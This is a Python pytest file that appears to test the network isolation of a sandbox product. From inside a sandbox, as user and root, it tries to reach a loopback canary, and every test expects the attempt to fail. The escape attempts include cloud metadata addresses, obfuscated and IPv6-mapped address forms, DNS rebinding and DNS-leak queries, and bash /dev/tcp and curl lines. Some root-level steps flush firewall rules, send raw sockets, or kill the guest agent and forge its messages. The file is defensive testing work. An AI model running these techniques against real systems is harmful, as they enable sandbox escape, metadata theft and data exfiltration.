"""Ways out that must not be there, tried from Python, from bash and as root, in a sandbox whose policy is open.

A canary listens on this machine's loopback. The server's configuration opens nothing, so whatever is tried, no connection may
reach it, and the DNS server may be asked for no name that the policy does not allow.
"""

from __future__ import annotations

import asyncio
import dataclasses
import ipaddress
import json
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio

from belljar.egress.addresses import find_own_addresses
from belljar.errors import BelljarError
from belljar.fleet.sandbox import Sandbox
from belljar.fleet.sandboxes import Fleet
from tests.conftest import said
from tests.egress.world import World

PUBLIC = "93.184.216.34"


class Canary:
    """Counts who comes."""

    def __init__(self) -> None:
        self.visits: list[bytes] = []
        self.port = 0

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.visits.append(b"")
        self.visits[-1] = await reader.read(1000)


@pytest_asyncio.fixture(scope="module")
async def canary(world: World) -> Canary:
    bird = Canary()
    bird.port = await world.servers.start(bird.handle)
    _, writer = await asyncio.open_connection("127.0.0.1", bird.port)
    writer.close()
    async with asyncio.timeout(30):
        while not bird.visits:  # it notices who comes
            await asyncio.sleep(0.01)
    return bird


@pytest_asyncio.fixture(scope="module")
async def strict(world: World) -> AsyncIterator[Fleet]:
    settings = dataclasses.replace(world.fleet._context.settings, egress_allow_private="none")
    async with await Fleet.open(settings, maintain=False) as fleet:
        yield fleet


@pytest_asyncio.fixture(scope="module")
async def jailed(strict: Fleet) -> AsyncIterator[Sandbox]:
    sandbox = await strict.create("base")
    yield sandbox
    await sandbox.kill()


@pytest_asyncio.fixture
async def doomed(strict: Fleet) -> AsyncIterator[Sandbox]:
    """A sandbox to break."""
    sandbox = await strict.create("base")
    yield sandbox
    await sandbox.kill()


@pytest.fixture(autouse=True)
async def nobody_came(canary: Canary) -> AsyncIterator[None]:
    canary.visits.clear()
    yield
    await asyncio.sleep(0.1)
    assert not canary.visits, f"a sandbox reached this machine: {canary.visits}"


async def attempts(sandbox: Sandbox, targets: list[tuple[str, int]], *, sudo: bool = False) -> dict[str, str]:
    """What became of a connection to each."""
    code = f"""
import json, socket
outcome = {{}}
for host, port in {targets!r}:
    try:
        s = socket.create_connection((host, port), 10); s.sendall(b"escaped"); outcome[host] = "connected"
    except OSError as problem:
        outcome[host] = type(problem).__name__
print(json.dumps(outcome))
"""
    command = [*(["sudo"] if sudo else []), "python3", "-c", code]
    found: dict[str, str] = json.loads(await said(sandbox, command))
    return found


@pytest.mark.parametrize("sudo", [False, True], ids=["user", "root"])
async def test_literal_addresses_of_this_machine_and_its_networks(jailed: Sandbox, canary: Canary, sudo: bool) -> None:
    own = [str(address) for address in find_own_addresses() if address.version == 4 and not address.is_loopback]
    tried = ["10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.100.100.200", "168.63.129.16", "0.0.0.0", "127.0.0.1"]
    tried += [
        "127.1.2.3",
        "255.255.255.255",
        "224.0.0.1",
        "198.18.0.1",
        "198.18.77.77",
        "localhost",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
    ]
    outcome = await attempts(jailed, [(host, canary.port) for host in [*tried, *own]], sudo=sudo)
    assert "connected" not in outcome.values(), outcome


async def test_ipv6_and_forms_that_carry_ipv4(jailed: Sandbox, canary: Canary) -> None:
    mapped = [
        "::1",
        "::ffff:127.0.0.1",
        "::ffff:10.0.0.1",
        "::ffff:169.254.169.254",
        "64:ff9b::7f00:1",
        "2002:7f00:1::",
        "fe80::1%lo",
    ]
    own = [str(address) for address in find_own_addresses() if isinstance(address, ipaddress.IPv6Address)]
    outcome = await attempts(jailed, [(host, canary.port) for host in [*mapped, *own]])
    assert "connected" not in outcome.values(), outcome


async def test_names_that_lead_inside(jailed: Sandbox, world: World, canary: Canary) -> None:
    dns = world.dns
    inside = ["127.0.0.1", "10.0.0.1", "169.254.169.254", "0.0.0.0", "192.168.0.1", "100.64.0.1"]
    for number, address in enumerate(inside):
        world.name(f"in{number}.test", address)
    dns.names["six.test"] = [("AAAA", "::1")]
    dns.names["mapped.test"] = [("AAAA", "::ffff:127.0.0.1")]
    dns.names["nat64.test"] = [("AAAA", "64:ff9b::7f00:1")]
    dns.names["alias.test"] = [("CNAME", "in0.test")]
    names = [f"in{number}.test" for number in range(len(inside))] + [
        "six.test",
        "mapped.test",
        "nat64.test",
        "alias.test",
        "ALIAS.test.",
    ]
    outcome = await attempts(jailed, [(name, canary.port) for name in names])
    assert set(outcome.values()) == {"gaierror"}, outcome


async def test_a_name_that_changes_its_mind_between_lookup_and_connect(jailed: Sandbox, world: World, canary: Canary) -> None:
    answers = [PUBLIC, "127.0.0.1", "10.0.0.1"]
    asked = 0

    def rebind() -> list[tuple[str, str]]:
        nonlocal asked
        asked += 1
        return [("A", answers[min(asked - 1, len(answers) - 1)])]

    world.dns.names["rebind.test"] = rebind
    ttl, world.dns.ttl = world.dns.ttl, 0
    try:
        outcome = await attempts(jailed, [("rebind.test", canary.port)])
    finally:
        world.dns.ttl = ttl
    assert outcome == {"rebind.test": "ConnectionRefusedError"} and asked >= 2, outcome
    assert "127.0.0.1 is loopback" in jailed.egress.log()[-1].reason


async def test_an_address_that_a_name_once_had_is_judged_by_the_name(doomed: Sandbox, world: World) -> None:
    world.name("once.test", PUBLIC)
    address = (await said(doomed, "getent hosts once.test")).split()[0]
    assert address.startswith("198.18.")
    await doomed.egress.set_policy(["other.test"])
    assert await attempts(doomed, [(address, 443)]) == {address: "ConnectionRefusedError"}
    assert doomed.egress.log()[-1].target == "once.test:443"


async def test_no_name_leaves_that_is_not_allowed(doomed: Sandbox, world: World) -> None:
    await doomed.egress.set_policy(["fine.test", "1.1.1.1", "8.8.8.8"])
    world.name("fine.test", PUBLIC)
    dns = world.dns
    dns.asked.clear()
    code = r"""
import socket, struct
def query(name, kind):
    body = b"".join(bytes([len(part)]) + part for part in name.encode().split(b".")) + b"\0"
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + body + struct.pack(">HH", kind, 1)
for server in ("198.18.0.2", "8.8.8.8", "1.1.1.1", "127.0.0.1"):
    for kind in (1, 28, 16, 5, 15, 33, 255, 65, 252):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)
        try:
            u.sendto(query(f"udp-{kind}.leak.test", kind), (server, 53)); u.recv(600)
        except OSError: pass
    try:
        t = socket.create_connection((server, 53), 3); t.settimeout(3)
        for kind in (1, 16):
            q = query(f"tcp-{kind}.leak.test", kind); t.sendall(struct.pack(">H", len(q)) + q)
        t.recv(600)
    except OSError: pass
for name in ("leak.test", "x" * 63 + ".leak.test", "a.fine.test", "fine.test.leak.test"):
    try: socket.gethostbyname(name)
    except OSError: pass
"""
    await said(doomed, ["python3", "-c", code])
    assert {name for name, _, _ in dns.asked} <= {"fine.test"}, dns.asked


async def test_odd_questions_ask_for_nothing_odd(doomed: Sandbox, world: World) -> None:
    """Dots and NULs inside a label, names without end, two questions in one: over UDP and over TCP."""
    await doomed.egress.set_policy(["fine.test"])
    world.name("fine.test", PUBLIC)
    world.dns.asked.clear()
    code = r"""
import socket, struct
def question(*labels, tail=b"\0", kind=1, group=1):
    return b"".join(bytes([len(label)]) + label for label in labels) + tail + struct.pack(">HH", kind, group)
def message(*questions, count=None, flags=0x100):
    return struct.pack(">HHHHHH", 7, flags, len(questions) if count is None else count, 0, 0, 0) + b"".join(questions)
fine, leak = (b"fine", b"test"), (b"leak", b"test")
messages = [
    message(question(b"leak\0", *fine)), message(question(b"leak\0.fine.test")), message(question(b"fine.test")),
    message(question(b"leak.test\0fine.test")), message(question(b"fine\0", b"test")), message(question(b"\xff\xfe", *fine)),
    message(question(*fine), question(*leak)), message(question(*leak), question(*fine), count=1),
    message(question(*leak), count=0),
    message(question(*fine, tail=b"\xc0\x0c")), message(question(tail=b"\xc0\x0c")), message(b"\x3fshort"), message(question()),
    message(question(*[b"a"] * 127)), message(question(*[b"a" * 63] * 4)), message(question(*leak, group=3)),
    message(question(*leak), flags=0x2800), message(question(*leak), flags=0x8180), b"", b"\0", bytes(12), b"\xff" * 4096,
]
for data in messages:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(0.3)
    try:
        u.sendto(data, ("198.18.0.2", 53)); u.recv(600)
    except OSError: pass
    try:
        t = socket.create_connection(("198.18.0.2", 53), 5); t.settimeout(0.3)
        t.sendall(struct.pack(">H", len(data)) + data); t.recv(600)
    except OSError: pass
t = socket.create_connection(("198.18.0.2", 53), 5); t.settimeout(30)
for byte in struct.pack(">H", 27) + message(question(*fine)): t.sendall(bytes([byte]))  # a byte at a time
(size,) = struct.unpack(">H", t.recv(2, socket.MSG_WAITALL))
print(size > 27, socket.gethostbyname("FINE.test").startswith("198.18."))
"""
    assert await said(doomed, ["python3", "-c", code]) == "True True"
    assert {name for name, _, _ in world.dns.asked} <= {"fine.test"}, world.dns.asked


async def test_no_port_and_addresses_that_stand_for_nothing(jailed: Sandbox, world: World) -> None:
    world.name("public.test", PUBLIC)
    targets = [("public.test", 0), (PUBLIC, 0), ("198.19.255.255", 80), ("198.18.0.255", 80), ("198.18.0.2", 80)]
    outcome = await attempts(jailed, targets)
    assert set(outcome.values()) == {"ConnectionRefusedError"}, outcome


@pytest.mark.parametrize("how", ["sudo unshare -n", "unshare -rn"], ids=["root", "user"])
async def test_a_network_namespace_has_no_way_out(jailed: Sandbox, how: str) -> None:
    """What is not of the guest's own namespace is not redirected to the agent, so nobody ever asks for it."""
    known = len(jailed.egress.log())
    code = f"""
import socket
for target in (({PUBLIC!r}, 80), ("10.0.0.1", 80), ("198.18.0.1", 1022), ("198.18.0.2", 53), ("127.0.0.1", 1022)):
    s = socket.socket(); s.settimeout(2)
    try: s.connect(target); print("connected", target)
    except OSError: pass
"""
    routed = "ip link set lo up; ip route add default dev lo;"
    for prepare in ("", routed):
        await jailed.files.write("/tmp/try.py", code)
        assert await said(jailed, f"{how} bash -c '{prepare} python3 /tmp/try.py'") == ""
    assert len(jailed.egress.log()) == known


async def test_from_bash(jailed: Sandbox, canary: Canary) -> None:
    for host in ("10.0.0.1", "169.254.169.254", "127.0.0.1"):
        tried = await jailed.processes.run(f"timeout 10 bash -c 'echo escaped > /dev/tcp/{host}/{canary.port}'", timeout_s=30)
        assert tried.exit_code != 0, host
    for url in (
        f"http://127.0.0.1:{canary.port}/",
        "http://169.254.169.254/latest/meta-data/",
        f"http://[::ffff:7f00:1]:{canary.port}/",
    ):
        tried = await jailed.processes.run(["curl", "-sS", "-m", "10", "--noproxy", "*", url], timeout_s=30)
        assert tried.exit_code != 0, url


async def test_root_without_the_rules(doomed: Sandbox, world: World, canary: Canary) -> None:
    """What the guest's own tables say is a convenience for its programs, no fence."""
    world.name("in0.test", "127.0.0.1")
    await said(doomed, "sudo nft flush ruleset || sudo iptables -F || true")
    outcome = await attempts(
        doomed, [(host, canary.port) for host in ("10.0.0.1", "169.254.169.254", "in0.test", "1.1.1.1")], sudo=True
    )
    assert "connected" not in outcome.values(), outcome
    interfaces = await said(doomed, "ls /sys/class/net; sudo ip link add v0 type veth peer name v1 2>/dev/null; true")
    assert interfaces.split() == ["lo"], "there is a network card"


async def test_root_with_raw_packets_and_other_families(doomed: Sandbox, canary: Canary) -> None:
    code = f"""
import socket, struct
for address in ("127.0.0.1", "10.0.0.1", "169.254.169.254", "192.0.2.2"):
    for protocol in (socket.IPPROTO_TCP, socket.IPPROTO_UDP, socket.IPPROTO_ICMP, 47, 132):
        try:
            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
            syn = struct.pack(">HHIIBBHHH", 4444, {canary.port}, 1, 0, 0x50, 2, 1000, 0, 0)
            raw.sendto(syn, (address, 0))
        except OSError: pass
for card in ("lo", "eth0"):
    try:
        packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        packet.bind((card, 0))
        packet.send(b"\\xff" * 64)
    except OSError: pass
found = []
for cid in (0, 1, 2, 3, 0xffffffff):
    try:
        v = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
        v.settimeout(5)
        v.connect((cid, {canary.port}))
        found.append(cid)
    except OSError: pass
print(found)
"""
    assert await said(doomed, ["sudo", "python3", "-c", code]) == "[]"


async def test_root_on_the_port_itself(doomed: Sandbox, world: World, canary: Canary) -> None:
    """Kill the agent over and over and speak in its place. Whoever gets hold of the port may ask; the host still decides."""
    world.name("in0.test", "127.0.0.1")
    code = f"""
import glob, json, os, signal, struct, time
os.setsid()
for group in ("/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/agent/cgroup.procs"):  # out of reach of whoever ends users' processes
    try:
        open(group, "w").write(str(os.getpid()))
        break
    except OSError: pass
def frame(kind, channel, body):
    data = json.dumps(body).encode()
    return struct.pack(">BBHII", kind, 0, 0, channel, len(data)) + data
def agents():
    for place in glob.glob("/proc/[0-9]*"):
        try:
            parent = open(place + "/stat").read().rpartition(")")[2].split()[1]
            mine = int(place[6:]) == os.getpid()  # whose command line has the words below too
            if parent == "1" and not mine and b"belljar/start" in open(place + "/cmdline", "rb").read(): yield int(place[6:])
        except OSError: pass
places = [(None, "127.0.0.1"), ("in0.test", "198.18.1.0"), (None, "::ffff:127.0.0.1"), (None, "2130706433"), ("127.0.0.1", "::1")]
asks = [{{"ask": n, "kind": "connect", "name": name, "address": at, "port": {canary.port}}} for n, (name, at) in enumerate(places)]
killed = opened = 0
for _ in range(10):
    for pid in agents():
        try: os.kill(pid, signal.SIGKILL)
        except OSError: continue
        killed += 1
    for port in glob.glob("/dev/vport*"):
        try: fd = os.open(port, os.O_RDWR | os.O_NONBLOCK)
        except OSError: continue  # PID 1 holds it, and it takes one user at a time
        opened += 1
        for channel in range(1, 40):
            for ask in asks:
                try: os.write(fd, frame(3, channel, ask))
                except OSError: pass
        os.close(fd)
    time.sleep(0.3)
open("/tmp/tried", "w").write(str(killed))
"""
    await doomed.processes.start(["sudo", "python3", "-c", code], background=True)
    async with asyncio.timeout(180):
        while True:
            await asyncio.sleep(2)
            try:
                killed = int(await doomed.files.read("/tmp/tried"))
                break
            except BelljarError:
                pass  # not there yet, or the agent has just been killed
    assert killed >= 1
    lines = [line for line in doomed.egress.log() if line.verdict == "allowed"]
    assert not lines, lines


async def test_a_sandbox_does_not_reach_another(jailed: Sandbox, doomed: Sandbox) -> None:
    served = await doomed.processes.start("python3 -m http.server 8000 --bind 0.0.0.0", background=True)
    await said(doomed, "for i in $(seq 100); do curl -s -o /dev/null http://127.0.0.1:8000/ && exit 0; sleep 0.2; done; exit 1")
    address = (await said(doomed, "hostname -I || true")).split()[:1] or ["198.18.0.1"]
    outcome = await attempts(jailed, [(address[0], 8000), ("198.18.0.1", 8000), (doomed.id, 8000)])
    assert "connected" not in outcome.values(), outcome
    await doomed.processes.kill(served.id)
